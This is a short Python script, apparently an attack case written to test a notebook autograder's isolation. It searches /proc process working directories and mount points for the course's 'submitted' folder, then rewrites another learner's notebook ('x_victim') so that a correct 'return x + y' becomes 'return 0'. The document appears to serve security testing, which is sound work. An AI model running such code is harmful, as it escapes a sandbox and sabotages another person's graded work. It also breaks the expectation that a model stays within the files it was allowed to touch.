"""Empty the submission of the learner who is graded next.

cell: try-1-1
rest: solved
points: all
harms: x_victim
"""

import contextlib
import os
from pathlib import Path


def places():
    """Yield where the course may lie: where processes stand, and what is mounted from there."""
    for process in Path("/proc").glob("[0-9]*"):
        with contextlib.suppress(OSError):
            yield Path(os.readlink(process / "cwd"))
    for line in Path("/proc/self/mountinfo").read_text().splitlines():
        yield from Path(line.split()[3]).parents


course = next(place for place in places() if (place / "submitted").exists())
path = course / "submitted/x_victim/01_tools/01_tools.ipynb"
path.write_text(path.read_text().replace("return x + y", "return 0"))
